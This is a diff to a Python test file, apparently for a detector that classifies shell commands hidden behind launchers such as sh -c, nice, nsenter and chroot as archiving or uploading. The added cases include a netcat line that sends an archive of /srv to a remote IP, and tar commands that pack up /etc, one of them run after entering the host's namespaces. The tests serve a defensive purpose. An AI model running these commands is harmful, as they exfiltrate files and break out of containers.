@@ -367,6 +367,10 @@ def test_probes_that_send_no_data_are_not_uploads(cmd: str) -> None:
         ("nsenter -t 1 -m -u -n -i tar czf /tmp/h.tgz /etc", "archive", "tar"),
         ("chroot /host tar czf /tmp/h.tgz /etc", "archive", "tar"),
         ("nice nohup stdbuf -o0 tar czf /tmp/a.tgz /srv", "archive", "tar"),
+        # In a shell payload the same way, options included (`-n 19` hid tar there).
+        ("sh -c 'nice -n 19 tar czf /tmp/a.tgz /srv'", "archive", "tar"),
+        ("sh -c 'env -i stdbuf -o0 tar czf /tmp/a.tgz /srv'", "archive", "tar"),
+        ("sh -c 'nice -n 5 nc 203.0.113.9 443 < /tmp/a.tgz'", "upload", "nc"),
     ],
 )
 def test_a_launcher_does_not_hide_the_command_it_runs(cmd: str, kind: str, tool: str) -> None:
